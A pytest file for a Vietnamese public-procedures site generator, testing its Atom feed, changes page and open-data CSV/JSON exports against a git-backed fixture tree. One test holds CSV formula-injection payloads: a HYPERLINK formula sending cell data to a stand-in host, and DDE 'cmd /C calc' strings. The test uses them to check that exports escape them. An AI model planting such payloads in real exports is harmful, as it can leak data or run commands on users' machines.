"""The Atom feed, the changes page and the open-data files, from a fixture tree with real git history."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from generator.build import read
from generator.catalogue import Catalogue
from generator.core.build_context import BuildContext, make_build_context
from generator.core.spreadsheet import FORMULA_START
from generator.schema import SCHEMAS, render_schema
from generator.site.changes import changes_page, iter_changes_pages
from generator.site.feed import atom_feed
from generator.site.opendata.columns import COLUMNS
from generator.site.opendata.page import iter_open_data_pages
from generator.site.opendata.write import write_open_data
from generator.site.providers import render_procedure
from tests.site.gitrepo import Repo

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "valid"
AS_OF = dt.date(2026, 11, 25)
NS = {"a": "http://www.w3.org/2005/Atom"}
RFC3339 = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(?:\.\d+)?(?:Z|[+-]\d\d:\d\d)$")
BIRTH = "procedures/dang-ky-khai-sinh.yaml"
NOTE = "Miễn lệ phí khi đăng ký đúng hạn theo Thông tư mới"


def _history_tree(root: Path) -> Repo:
    """The fixture tree in git: first published, then a new change note on the birth registration."""
    shutil.copytree(FIXTURES, root)
    repo = Repo(root)
    repo.commit("đăng tải", "2026-09-01T08:00:00+07:00")
    text = (root / BIRTH).read_text(encoding="utf-8")
    (root / BIRTH).write_text(text + f"change_note: {NOTE}\n", encoding="utf-8")
    repo.commit("ghi chú", "2026-11-02T14:15:00+07:00")
    return repo


def _build(root: Path) -> tuple[Catalogue, BuildContext]:
    catalogue, _ = read(root, AS_OF)
    return catalogue, make_build_context(catalogue)


@pytest.fixture(scope="module")
def tree(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _history_tree(tmp_path_factory.mktemp("history") / "tree").root


def _feed(catalogue: Catalogue, ctx: BuildContext) -> ET.Element:
    return ET.fromstring(atom_feed(catalogue, ctx))  # a real XML parser: malformed output raises


def test_the_feed_is_valid_atom(tree: Path) -> None:
    catalogue, ctx = _build(tree)
    feed = _feed(catalogue, ctx)
    assert feed.tag == "{http://www.w3.org/2005/Atom}feed"
    for required in ("a:id", "a:title", "a:updated", "a:author/a:name", "a:link[@rel='self']"):
        assert feed.find(required, NS) is not None, required
    entries = feed.findall("a:entry", NS)
    assert len(entries) == len(catalogue.procedures) + 1  # every first publication, then the new note
    for entry in entries:
        for required in ("a:id", "a:title", "a:updated", "a:link[@rel='alternate']", "a:summary"):
            assert (entry.findtext(required, namespaces=NS) or entry.find(required, NS)) is not None, required
        updated = entry.findtext("a:updated", namespaces=NS) or ""
        assert RFC3339.match(updated) and dt.datetime.fromisoformat(updated).tzinfo is not None
    ids = [e.findtext("a:id", namespaces=NS) for e in entries]
    assert len(set(ids)) == len(ids)
    newest = entries[0]
    assert newest.findtext("a:summary", namespaces=NS) == NOTE
    assert newest.findtext("a:updated", namespaces=NS) == "2026-11-02T14:15:00+07:00"
    assert feed.findtext("a:updated", namespaces=NS) == "2026-11-02T14:15:00+07:00"  # newest change, not now
    link = newest.find("a:link", NS)
    assert link is not None and link.get("href", "").startswith(catalogue.site.model.base_url.rstrip("/"))


def test_feed_ids_stay_the_same_across_builds_and_new_commits(tmp_path: Path) -> None:
    repo = _history_tree(tmp_path / "tree")
    first = atom_feed(*_build(repo.root))
    assert atom_feed(*_build(repo.root)) == first  # byte for byte: nothing depends on the clock
    text = (repo.root / BIRTH).read_text(encoding="utf-8").replace(NOTE, "Ghi chú thứ ba")
    (repo.root / BIRTH).write_text(text, encoding="utf-8")
    repo.commit("lần ba", "2026-11-20T09:00:00+07:00")
    ids = lambda doc: [e.findtext("a:id", namespaces=NS) for e in ET.fromstring(doc).findall("a:entry", NS)]  # noqa: E731
    before, after = ids(first), ids(atom_feed(*_build(repo.root)))
    assert after[1:] == before and after[0] not in before


def test_the_changes_page_links_to_each_change_on_its_procedure_page(tree: Path) -> None:
    catalogue, ctx = _build(tree)
    page = changes_page(catalogue, ctx)
    items = [item for day in page.days for item in day.items]
    assert items[0].facts.text == NOTE and items[0].facts.day == "02/11/2026"
    assert page.notice is None
    by_slug = {entry.slug: entry for entry in catalogue.procedures}
    for item in items:
        assert item.href is not None
        slug, anchor = re.fullmatch(r"\.\./thu-tuc/([^/]+)/#(.+)", item.href).groups()  # type: ignore[union-attr]
        html = render_procedure(catalogue, by_slug[slug], ctx).html
        assert f'id="{anchor}"' in html, item.href
    body = next(iter_changes_pages(catalogue, ctx)).render().html
    assert NOTE in body and 'href="../thay-doi/atom.xml"' in body


def test_a_shallow_clone_builds_a_valid_feed_and_says_why_it_is_short(tree: Path, tmp_path: Path) -> None:
    clone = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", "--depth=1", tree.as_uri(), str(clone)], check=True)
    catalogue, ctx = _build(clone)
    assert ctx.history.state == "shallow"
    feed = _feed(catalogue, ctx)
    assert feed.findall("a:entry", NS) == []
    assert feed.findtext("a:updated", namespaces=NS) == "2026-11-25T00:00:00+07:00"  # the build date
    page = changes_page(catalogue, ctx)
    assert page.notice is not None and page.days == ()
    html = render_procedure(catalogue, catalogue.procedures[0], ctx).html
    assert "Cập nhật lần cuối" not in html  # no date rather than the clone's date


def _csv(site: Path) -> list[list[str]]:
    text = (site / "data" / "procedures.csv").read_text(encoding="utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_open_data_files(tree: Path, tmp_path: Path) -> None:
    catalogue, ctx = _build(tree)
    write_open_data(catalogue, tmp_path, ctx)
    rows = _csv(tmp_path)
    assert rows[0] == [column.key for column in COLUMNS]
    assert len(rows) - 1 == sum(max(1, len(e.model.channels)) for e in catalogue.procedures)
    data = json.loads((tmp_path / "data" / "catalogue.json").read_text(encoding="utf-8"))
    assert [p["slug"] for p in data["procedures"]] == [e.slug for e in catalogue.procedures]
    assert data["licence"] == {
        "name": "CC BY 4.0",
        "url": "https://creativecommons.org/licenses/by/4.0/deed.vi",
    }
    birth = next(p for p in data["procedures"] if p["slug"] == "dang-ky-khai-sinh")
    assert birth["change_note"] == NOTE and birth["last_changed"] == "2026-11-02"
    changes = json.loads((tmp_path / "data" / "changes.json").read_text(encoding="utf-8"))
    assert [c["commit"] for c in changes["changes"]] == [c.commit for c in ctx.history.changes]
    assert (
        changes["changes"][0]["note"] == NOTE and changes["changes"][0]["time"] == "2026-11-02T14:15:00+07:00"
    )
    for name in SCHEMAS:
        published = (tmp_path / "data" / "schema" / f"{name}.schema.json").read_text(encoding="utf-8")
        assert published == render_schema(name)


def test_the_licence_comes_from_site_settings(tmp_path: Path) -> None:
    root = tmp_path / "tree"
    shutil.copytree(FIXTURES, root)
    site = root / "content" / "site.yaml"
    extra = "open_data:\n  licence: ODC-By 1.0\n  licence_url: https://opendatacommons.org/licenses/by/1-0/\n"
    site.write_text(site.read_text(encoding="utf-8") + extra, encoding="utf-8")
    catalogue, ctx = _build(root)
    write_open_data(catalogue, tmp_path / "site", ctx)
    data = json.loads((tmp_path / "site" / "data" / "catalogue.json").read_text(encoding="utf-8"))
    assert data["licence"]["name"] == "ODC-By 1.0" and data["history"] == "none"
    body = next(iter_open_data_pages(catalogue, ctx)).render().html
    assert "ODC-By 1.0" in body and 'href="https://opendatacommons.org/licenses/by/1-0/"' in body


HOSTILE = {
    "name": '=HYPERLINK("https://x.example/?"&A1,"Bấm")',
    "change_note": "+cmd|' /C calc'!A0",
    "fee": "@SUM(1+1)*cmd|' /C calc'!A0",
    "alias": "-2+3+cmd|' /C calc'!A0",
}


def test_no_csv_cell_can_start_a_formula(tmp_path: Path) -> None:
    root = tmp_path / "tree"
    shutil.copytree(FIXTURES, root)
    path = root / BIRTH
    text = path.read_text(encoding="utf-8").replace("name: Đăng ký khai sinh", f"name: '{HOSTILE['name']}'")
    text = text.replace("name: Lệ phí đăng ký khai sinh", f'name: "{HOSTILE["fee"]}"')
    path.write_text(text + f'change_note: "{HOSTILE["change_note"]}"\n', encoding="utf-8")
    catalogue, ctx = _build(root)
    write_open_data(catalogue, tmp_path / "site", ctx)
    rows = _csv(tmp_path / "site")
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    header = rows[0]
    birth = next(row for row in rows if row[0] == "dang-ky-khai-sinh")
    assert birth[header.index("name")] == "'" + HOSTILE["name"]
    assert birth[header.index("change_note")] == "'" + HOSTILE["change_note"]
    assert birth[header.index("fee_names")].split(" | ")[0] == "'" + HOSTILE["fee"]


class _Columns(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.keys: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        key = dict(attrs).get("data-ck-column")
        if key:
            self.keys.append(key)


def test_the_open_data_page_documents_every_csv_column(tree: Path) -> None:
    catalogue, ctx = _build(tree)
    body = next(iter_open_data_pages(catalogue, ctx)).render().html
    reader = _Columns()
    reader.feed(body)
    assert reader.keys == [column.key for column in COLUMNS]
    assert all(column.vi and column.en and column.vi != column.en for column in COLUMNS)
    for file in ("catalogue.json", "procedures.csv", "changes.json", "schema/procedure.schema.json"):
        assert f'href="../data/{file}"' in body
